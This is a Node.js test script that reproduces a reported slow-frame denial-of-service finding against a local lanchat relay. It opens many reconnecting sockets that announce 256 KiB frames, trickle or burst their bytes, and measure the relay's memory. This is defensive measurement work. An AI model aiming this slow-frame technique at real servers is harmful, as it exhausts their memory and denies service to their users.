#!/usr/bin/env node
// Issue 15, finding 8, as a measurement: a lanchat relay on 127.0.0.1 (mDNS off) and N connections that
// say hello, announce a full-size frame (256 KiB) and then
//   trickle: send it a byte per TCP segment, a byte every millisecond (the attack as reported);
//   burst:   send 250 KiB of it at once, then a byte a second (never silent long enough to be dropped);
// each reconnecting 200 ms after it is closed. Prints the relay's RSS every 5 s, its peak, and the error
// codes the attackers were sent. Connections come from 127.0.0.10-15 (six "hosts"), or with `loopback`
// from 127.0.0.1, which a node exempts from its per-address cap and bans.
//
//   npm run build && node scripts/trial-slow-frames.mjs [seconds=58] [connections=96] [trickle|burst] [loopback]
//   (a fourth argument `--repo DIR` measures another checkout's build instead)
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';

const args = process.argv.slice(2);
const repoAt = args.indexOf('--repo');
const repo = resolve(repoAt >= 0 ? args.splice(repoAt, 2)[1] : fileURLToPath(new URL('..', import.meta.url)));
const [seconds = 58, connections = 96] = args.slice(0, 2).map(Number);
const mode = args[2] ?? 'trickle';
const loopback = args[3] === 'loopback';
const { encodeFrame, decodeFrame } = await import(join(repo, 'dist/wire/codec.js'));
const { FrameDecoder } = await import(join(repo, 'dist/wire/frame-decoder.js'));

const data = mkdtempSync(join(tmpdir(), 'lanchat-trial-'));
const relay = spawn(process.execPath, [join(repo, 'bin/lanchat.js'), '--json', '--no-discovery', '--host', '--name', 'relay', '--data', data], {
  stdio: ['pipe', 'pipe', 'inherit'],
});
const port = await new Promise((resolve) =>
  createInterface({ input: relay.stdout }).on('line', (line) => {
    const event = JSON.parse(line);
    if (event.event === 'ready') resolve(event.port);
  }),
);
const rssMb = () => Math.round(Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${relay.pid}/status`, 'utf8'))[1]) / 1024);
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
await pause(1_000);
console.log(`relay before: ${rssMb()} MB`);

const codes = {};
const sockets = new Set();
let open = 0;
let connects = 0;
let sent = 0;
let ending = false;

function attack(i) {
  const socket = connect({ host: '127.0.0.1', port, localAddress: loopback ? '127.0.0.1' : `127.0.0.${10 + (i % 6)}` });
  sockets.add(socket);
  connects++;
  socket.setNoDelay(true);
  socket.on('error', () => undefined);
  const decoder = new FrameDecoder();
  socket.on('data', (chunk) => {
    try {
      decoder.push(chunk, (payload) => {
        const frame = decodeFrame(payload);
        if (frame.kind === 'error') codes[frame.error.code] = (codes[frame.error.code] ?? 0) + 1;
      });
    } catch {
      // a welcome bigger than this decoder's limit: not what is being counted
    }
  });
  socket.on('close', () => {
    open--;
    sockets.delete(socket);
    if (!ending) setTimeout(() => attack(i), 200);
  });
  socket.on('connect', () => {
    open++;
    const hello = { protocolVersion: 1, nodeId: randomBytes(32), nick: `t${i}x${connects}`, rooms: ['#lobby'], network: 'lanchat' };
    socket.write(encodeFrame({ hello }));
    setTimeout(() => {
      if (socket.destroyed) return;
      socket.write(Buffer.from([0x80, 0x80, 0x10])); // a frame of 262,144 bytes
      const burst = mode === 'burst' ? 250 * 1024 : 0;
      if (burst > 0) socket.write(Buffer.alloc(burst, 0x41));
      sent += burst;
      const trickle = setInterval(() => {
        if (socket.destroyed) return clearInterval(trickle);
        socket.write(Buffer.from([0x41]));
        sent++;
      }, mode === 'burst' ? 1_000 : 1);
    }, 200);
  });
}

for (let i = 0; i < connections; i++) attack(i);
let peak = 0;
const started = Date.now();
for (let tick = 1; tick <= seconds; tick++) {
  await pause(1_000);
  peak = Math.max(peak, rssMb());
  if (tick % 5 === 0) console.log(`${tick} s: relay ${rssMb()} MB, ${open} open, ${connects} connections made, ${sent} bytes sent, codes ${JSON.stringify(codes)}`);
}
ending = true;
for (const socket of sockets) socket.destroy();
await pause(3_000);
console.log(`peak ${peak} MB in ${Math.round((Date.now() - started) / 1000) - 3} s; 3 s after the attackers left: ${rssMb()} MB`);
relay.kill('SIGKILL');
await new Promise((resolve) => relay.once('exit', resolve));
rmSync(data, { recursive: true, force: true });
